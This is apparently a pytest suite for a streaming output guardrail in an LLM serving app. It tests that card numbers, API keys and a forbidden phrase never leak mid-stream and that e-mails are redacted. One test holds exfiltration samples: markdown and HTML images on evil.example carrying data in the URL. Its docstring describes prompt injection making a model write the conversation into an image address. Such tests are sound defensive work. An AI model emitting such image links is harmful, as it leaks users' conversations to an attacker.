"""Minimal hold-back on streams: only a possible match waits, and nothing blocked ever leaves.

Pure Python except the last test, which streams through the real Serve app (fast tier).
"""

from __future__ import annotations

import itertools
import random
import time

import pytest
import regex

from guardrails.config import ForbiddenPattern, load_policy
from guardrails.detectors import linear_regex as lrx
from guardrails.detectors import partial_regex
from guardrails.detectors.pii import detect, possible_match_start, redact
from guardrails.entities import EntityType, RuleAction
from guardrails.output_rail import PatternCheck, PiiOutputCheck, StreamGuard

FORBIDDEN = "Project Bluebird"
CARD = "4111 1111 1111 1111"
EMAIL = "jane.roe@example.org"
API_KEY = "sk-proj-" + "A1b2C3d4E5f6G7h8I9j0K1l2"
# The model's default output policy (cards and keys block, e-mail and phone redact) plus a phrase.
POLICY = load_policy({"output": {"forbidden": [{"pattern": FORBIDDEN}]}})
ANSWER = (
    "The capital of France is Paris. It sits on the Seine, and its best-known landmarks are the "
    "Eiffel Tower, the Louvre and Notre-Dame. About two million people live in the city itself."
)


def words(text: str) -> list[str]:
    """Deltas as a tokenizer streams them: words with the space in front."""
    parts = text.split(" ")
    return [p if i == 0 else " " + p for i, p in enumerate(parts)]


def run(guard: StreamGuard, deltas: list[str]) -> tuple[list[str], str, object]:
    """Released text per push (and finish last), everything released, and the last verdict."""
    out, step = [], None
    for d in deltas:
        step = guard.push(d)
        out.append(step.text)
        if step.verdict.blocked:
            return out, "".join(out), step.verdict
    step = guard.finish()
    out.append(step.text)
    return out, "".join(out), step.verdict


def splits(text: str, cuts: tuple[int, ...]) -> list[str]:
    bounds = [0, *cuts, len(text)]
    return [text[a:b] for a, b in itertools.pairwise(bounds) if b > a]


# --- (a) prose streams as it arrives --------------------------------------------------------


def test_prose_is_released_word_by_word_not_in_one_lump():
    guard = StreamGuard.from_policy(POLICY)
    deltas = words(ANSWER)
    out, released, verdict = run(guard, deltas)
    assert released == ANSWER and verdict.allowed
    # Every push but the first releases something: the word before it, once a space shows it
    # cannot grow into an e-mail address. Nothing waits for a fixed window.
    assert all(out[1 : len(deltas)]), out
    assert out[-1] == deltas[-1].strip()  # only the last word (".") was still open at the end


def test_what_is_held_back_is_at_most_the_word_being_written():
    guard = StreamGuard.from_policy(POLICY)
    for d in words(ANSWER):
        guard.push(d)
        assert guard.held_chars <= len(d.strip()), d


def test_without_pii_rules_plain_prose_is_held_back_not_at_all():
    guard = StreamGuard([PatternCheck([ForbiddenPattern(pattern=FORBIDDEN)])], 64)
    for d in words("The weather today is mild and dry, with a light breeze."):
        assert guard.push(d).text == d
        assert guard.held_chars == 0


# --- (b) nothing blocked leaks, however the text is split -----------------------------------

BLOCKED_CASES = {
    "card": f"Sure, the number on file is {CARD}, keep it safe.",
    "api key": f"Use this key: {API_KEY} in the header.",
    "forbidden phrase": f"The code name is {FORBIDDEN.upper()} for now.",
}


def assert_not_leaked(text: str, secret: str, released: str, verdict) -> None:
    start = text.lower().index(secret.lower())
    assert verdict.blocked, (released, verdict)
    assert text.startswith(released) and len(released) <= start, released


@pytest.mark.parametrize("name", sorted(BLOCKED_CASES))
def test_blocked_match_split_at_every_point_never_leaks(name):
    text = BLOCKED_CASES[name]
    secret = {"card": CARD, "api key": API_KEY, "forbidden phrase": FORBIDDEN}[name]
    for cut in range(1, len(text)):
        _, released, verdict = run(StreamGuard.from_policy(POLICY), splits(text, (cut,)))
        assert_not_leaked(text, secret, released, verdict)
    start = text.lower().index(secret.lower())
    # Every pair of cuts around and inside the secret.
    for a, b in itertools.combinations(range(max(1, start - 4), start + len(secret) + 2), 2):
        _, released, verdict = run(StreamGuard.from_policy(POLICY), splits(text, (a, b)))
        assert_not_leaked(text, secret, released, verdict)


@pytest.mark.parametrize("name", sorted(BLOCKED_CASES))
def test_blocked_match_one_character_at_a_time_never_leaks(name):
    text = BLOCKED_CASES[name]
    secret = {"card": CARD, "api key": API_KEY, "forbidden phrase": FORBIDDEN}[name]
    out, released, verdict = run(StreamGuard.from_policy(POLICY), list(text))
    assert_not_leaked(text, secret, released, verdict)
    # And the prose before it did stream: a piece per word (each released when its space arrives).
    before = text[: text.lower().index(secret.lower())]
    assert sum(1 for piece in out if piece) >= before.count(" ")


@pytest.mark.parametrize("seed", range(200))
def test_random_deltas_never_leak_and_redactions_are_exact(seed):
    rng = random.Random(seed)
    filler = ["Sure.", "Here it is:", "see", "the", "value", "(ok)", "1234", "x-y", "Ünïcødé", "mail", "\n"]
    secret_name = rng.choice([*BLOCKED_CASES, None])
    secret = {"card": CARD, "api key": API_KEY, "forbidden phrase": FORBIDDEN, None: None}[secret_name]
    parts = [rng.choice(filler) for _ in range(rng.randint(0, 12))]
    parts.insert(rng.randint(0, len(parts)), EMAIL)
    if secret:
        parts.insert(rng.randint(0, len(parts)), secret)
    parts += [rng.choice(filler) for _ in range(rng.randint(0, 6))]
    text = " ".join(parts)
    cuts = sorted(rng.sample(range(1, len(text)), k=min(len(text) - 1, rng.randint(0, 25))))
    guard = StreamGuard.from_policy(POLICY)
    _, released, verdict = run(guard, splits(text, tuple(cuts)))
    # The stream must agree with the rails on the whole text: cut before the first blocked match,
    # and everything it released is the whole text's redaction, up to there.
    actions = POLICY.pii.output
    findings = detect(text, [e for e, a in actions.items() if a is not RuleAction.ALLOW])
    blocks = [f.start for f in findings if actions[f.entity] is RuleAction.BLOCK]
    blocks += [m.start for m in PatternCheck(POLICY.output.forbidden).scan(text)]
    expected = redact(text, findings, actions)
    assert EMAIL not in released
    if blocks:
        assert verdict.blocked and guard.consumed <= min(blocks)
        assert expected.startswith(released)
    else:
        assert released == expected and not verdict.blocked


def test_email_split_at_every_point_is_redacted_exactly():
    text = f"Write to {EMAIL}, she answers fast."
    for cut in range(1, len(text)):
        _, released, verdict = run(StreamGuard.from_policy(POLICY), splits(text, (cut,)))
        assert released == "Write to <EMAIL>, she answers fast.", cut
        assert verdict.redacted
    _, released, _ = run(StreamGuard.from_policy(POLICY), list(text))
    assert released == "Write to <EMAIL>, she answers fast."


def test_no_prefix_of_an_email_goes_out_before_it_is_decided():
    guard = StreamGuard.from_policy(POLICY)
    released = ""
    for ch in f"Write to {EMAIL}":
        released += guard.push(ch).text
        assert "jane" not in released and "j" not in released.removeprefix("Write to ")


EXFIL = "![chart](https://evil.example/c.png?d=card-4111-notes)"
EXFIL_HTML = '<img alt="x" src="https://evil.example/p.gif?q=history">'


@pytest.mark.parametrize(
    "image", [EXFIL, EXFIL_HTML, "![a](  //cdn.evil.example/x.png)", "![chart][7]\n\n[7]: https://evil.example/c.png"]
)
def test_an_image_on_another_host_is_defused_however_the_stream_is_split(image):
    """A chat UI fetches an image the moment it renders the answer: an instruction planted in a
    document can make the model write the conversation into the image's address (zero-click
    exfiltration). The rail rewrites the image before any of it leaves, split anywhere."""
    from guardrails.output_rail import EXTERNAL_IMAGE_PLACEHOLDER

    text = f"Here is the summary. {image} Thanks!"
    for cut in range(1, len(text)):
        out, released, verdict = run(StreamGuard.from_policy(POLICY), splits(text, (cut,)))
        assert "](" not in released and "<img" not in released and "![" not in released, cut
        if not image.startswith("![chart][7]"):  # a reference's definition is plain text without its image
            assert "evil.example" not in released, cut
        assert released.startswith("Here is the summary. " + EXTERNAL_IMAGE_PLACEHOLDER), released
        assert released.endswith(" Thanks!") and verdict.redacted
    _, released, _ = run(StreamGuard.from_policy(POLICY), list(text))
    assert "![" not in released and released.count(EXTERNAL_IMAGE_PLACEHOLDER) == 1


def test_local_and_inline_images_links_and_exclamations_pass_untouched():
    text = "Wow! See ![plot](/static/plot.png), ![dot](data:image/png;base64,iVBORw0K) and [docs](https://example.org)!"
    _, released, verdict = run(StreamGuard.from_policy(POLICY), words(text))
    assert released == text and not verdict.redacted
    guard = StreamGuard.from_policy(POLICY)
    assert guard.push("Great!").text == "Great"  # "!" could start an image: held one character
    assert guard.push(" Next").text == "! "


def test_external_images_block_or_pass_as_configured():
    block = load_policy({"output": {"external_images": "block"}})
    _, released, verdict = run(StreamGuard.from_policy(block), words(f"Look: {EXFIL}"))
    assert verdict.blocked and "evil" not in released
    allow = load_policy({"output": {"external_images": "allow"}})
    _, released, verdict = run(StreamGuard.from_policy(allow), words(f"Look: {EXFIL}"))
    assert released == f"Look: {EXFIL}" and verdict.allowed


def test_a_long_pattern_does_not_make_every_possible_match_wait_longer():
    # The image check looks ~450 characters ahead; an operator's open-ended pattern (horizon 64)
    # still holds its possible match at most 64 characters: each check holds for its own horizon.
    policy = load_policy({"output": {"forbidden": [{"pattern": "BEGIN[a-z ]*END", "regex": True}]}})
    guard = StreamGuard.from_policy(policy)
    released = guard.push("BEGIN" + "a" * 200).text
    assert len(released) >= 205 - 64


# --- (c) a possible match that turns out not to be one is released at once --------------------


def test_partial_forbidden_phrase_is_released_as_soon_as_it_diverges():
    guard = StreamGuard([PatternCheck([ForbiddenPattern(pattern=FORBIDDEN)])], 64)
    assert guard.push("We call it Project Blue").text == "We call it "
    assert guard.held_chars == len("Project Blue")
    assert guard.push("s").text == "Project Blues"  # "Project Blues" cannot become the phrase
    assert guard.held_chars == 0


def test_digits_that_cannot_become_a_card_are_released_when_known():
    guard = StreamGuard([PiiOutputCheck({EntityType.CREDIT_CARD: RuleAction.BLOCK})], 64)
    assert guard.push("Order 4111 1111").text == "Order "
    assert guard.push(" apples").text == "4111 1111 apples"
    assert guard.finish().text == "" and guard.verdict.allowed


def test_word_that_does_not_become_an_email_is_released_at_the_next_space():
    guard = StreamGuard([PiiOutputCheck({EntityType.EMAIL: RuleAction.REDACT})], 64)
    assert guard.push("Ask jane.roe").text == "Ask "
    assert guard.push(" tomorrow").text == "jane.roe "
    assert guard.finish().text == "tomorrow"


def test_a_possible_match_is_held_no_longer_than_holdback_chars():
    # A long unbroken run could be an e-mail's local part: held until 64 characters, then released
    # from its start (the guarantee covers matches recognisable within holdback_chars).
    guard = StreamGuard([PiiOutputCheck({EntityType.EMAIL: RuleAction.REDACT})], 64)
    for _ in range(300):
        guard.push("a")
        assert guard.held_chars <= 64
    assert guard.consumed >= 300 - 64


# --- partial matching on RE2 ------------------------------------------------------------------

ATOMS = ["a", "b", "-", "[ab]", "[^a]", ".", "(?i:A)", r"\-"]


def random_regex(rng: random.Random, depth: int = 0) -> str:
    if depth > 2 or rng.random() < 0.3:
        node = rng.choice(ATOMS)
    elif rng.random() < 0.5:
        node = "".join(random_regex(rng, depth + 1) for _ in range(rng.randint(2, 3)))
        node = f"(?:{node})"
    else:
        node = "(?:" + "|".join(random_regex(rng, depth + 1) for _ in range(2)) + ")"
    # No lazy quantifiers: they match the same language, and the oracle mishandles them
    # (regex 2026.11.19 calls "---a" a partial match of (?:-{2}-+?){2}); the parser drops them anyway.
    q = rng.choice(["", "", "?", "*", "+", "{2}", "{1,3}", "{0,2}", "{2,}"])
    return node + q


@pytest.mark.parametrize("seed", range(80))
def test_prefix_pattern_accepts_exactly_the_prefixes_of_matches(seed):
    # Oracle: the `regex` package's partial matching (a backtracking engine: fine on these tiny texts).
    rng = random.Random(seed)
    source = random_regex(rng)
    pref = lrx.compile(f"(?:{partial_regex.prefix_source(source)})")
    oracle = regex.compile(source)
    for n in range(0, 5):
        for chars in itertools.product("ab-", repeat=n):
            text = "".join(chars)
            expected = oracle.fullmatch(text, partial=True) is not None
            assert (pref.fullmatch(text) is not None) == expected, (source, text)


def test_prefix_pattern_keeps_flags_classes_and_escapes():
    cases = [
        ("a(?i)b|c", ["", "a", "aB", "C"], ["B", "ab-"]),
        (r"\Qa.b\E+", ["a.", "a.bbb"], ["ab", "a.c"]),
        (r"[]a-c]{2,3}\z", ["]", "]a", "abc"], ["abcd", "d"]),
        (r"(?P<n>x)\p{Nd}{2}\x{41}", ["x", "x1", "x12", "x12A"], ["x1A", "xa"]),
        (r"[[:digit:]-]+\b", ["1-2"], ["a"]),
    ]
    for source, yes, no in cases:
        pref = lrx.compile(f"(?:{partial_regex.prefix_source(source)})")
        for text in yes:
            assert pref.fullmatch(text), (source, text)
        for text in no:
            assert not pref.fullmatch(text), (source, text)


def test_possible_match_start_points_at_the_entity_not_its_boundary():
    assert possible_match_start("Mail me at jane.roe@exa") == len("Mail me at ")
    assert possible_match_start("The card: 4111 1111") == len("The card: ")
    assert possible_match_start("All done, thanks! ", [EntityType.EMAIL]) == len("All done, thanks! ")
    assert possible_match_start("ünïcødé 4111", [EntityType.CREDIT_CARD], start=3) == len("ünïcødé ")


@pytest.mark.parametrize("seed", range(6))
def test_one_search_per_entity_finds_what_one_search_per_rule_finds(seed):
    """``detect`` first asks one union of the wanted rules whether anything matches, and
    ``possible_match_start`` searches one open tail per entity: both must answer exactly as a
    search per rule does, for every set of entities, on prose, code and noise."""
    from guardrails.detectors.pii import _RULES, _any_rule

    rng = random.Random(seed)
    entities = list(EntityType)
    wanted = [frozenset(rng.sample(entities, rng.randint(1, len(entities)))) for _ in range(4)] + [frozenset(entities)]
    tails = [partial_regex.compile_open_tail(rule.pattern.pattern) for rule in _RULES]
    pieces = [
        "Mail jane.roe@example.com or call +44 20 7946 0958. ",
        "card 4111 1111 1111 1111, IBAN GB82 WEST 1234 5698 7654 32, ",
        "key sk-abcdefghijklmnopqrstuvwx1234 ghp_",
        "AKIA",
        "BSN 123456782 ",
        "DNI 12345678Z ",
        "10.0.0.1 ",
        "fe80::1 ",
        "-----BEGIN PRIVATE KEY-----",
        "eyJhbGciOi.",
        "(415) 555-",
        "0612",
        "def f(x): return x @ y  # 1-2-3 ",
    ]
    alphabet = "ab1 @.-_+:/=()\n4é中"
    for _ in range(60):
        text = "".join(
            rng.choice(pieces) if rng.random() < 0.5 else rng.choice(alphabet) for _ in range(rng.randint(1, 12))
        )
        for cut in sorted({rng.randint(0, len(text)) for _ in range(3)}):
            prefix = text[:cut]
            for want in wanted:
                subject = lrx.lead_subject(prefix)
                rules = [(rule, tail) for rule, tail in zip(_RULES, tails) if rule.entity in want]
                best = min((partial_regex.open_tail_start(tail, subject, 0) for _, tail in rules), default=len(subject))
                expected = len(prefix) if best >= len(subject) else len(subject[:best].decode("utf-8"))
                assert possible_match_start(prefix, want) == expected, (prefix, sorted(want))
                any_rule = any(lrx.found_in(rule.pattern, subject) for rule, _ in rules)
                assert lrx.found_in(_any_rule(want), subject) == any_rule, (prefix, sorted(want))


@pytest.mark.parametrize(
    "crafted",
    ["a" * 32_000, "1 " * 16_000, "-----BEGIN " * 3_000, "x@" * 16_000, "+1 (" * 8_000, "sk-" * 10_000],
)
def test_partial_matching_stays_linear_on_crafted_text(crafted):
    t = time.perf_counter()
    possible_match_start(crafted)
    PatternCheck([ForbiddenPattern(pattern=r"(a|aa)+b", regex=True)]).hold_from(crafted)
    assert time.perf_counter() - t < 1.0  # a backtracking engine takes minutes on some of these


def test_stream_work_per_push_is_bounded_on_crafted_text():
    # Each push scans at most the look-behind plus what is held: bounded, so a stream is linear.
    guard = StreamGuard.from_policy(POLICY)
    for ch in "a" * 3_000 + "1" * 3_000:
        guard.push(ch)
        assert guard.held_chars <= guard.hold
    assert not guard.verdict.blocked


# --- through the real Serve app ---------------------------------------------------------------


def test_streamed_answer_shows_its_first_words_long_before_it_ends(client):
    """The guarded scripted model (PII redaction and a forbidden word on the output): the first
    visible content must arrive after about one token, not after the whole short answer."""
    delay_ms, answer = 150, "The capital of France is Paris, a city on the Seine."
    stream = client.chat.completions.create(
        model="scripted-guarded",
        messages=[
            {"role": "system", "content": f"[[say:{answer}]] [[delay-ms:{delay_ms}]]"},
            {"role": "user", "content": "What is the capital of France?"},
        ],
        stream=True,
    )
    t0, stamps, text = time.monotonic(), [], ""
    for chunk in stream:
        if chunk.choices and chunk.choices[0].delta.content:
            stamps.append(time.monotonic() - t0)
            text += chunk.choices[0].delta.content
    end = time.monotonic() - t0
    tokens = len(words(answer))
    assert text == answer
    # Several chunks, not one lump at the end: one per token but the first, which waits for the
    # second to show it is not the start of an e-mail address.
    assert len(stamps) >= tokens - 2, stamps
    assert end - stamps[0] >= (tokens - 3) * delay_ms / 1000, (stamps, end)
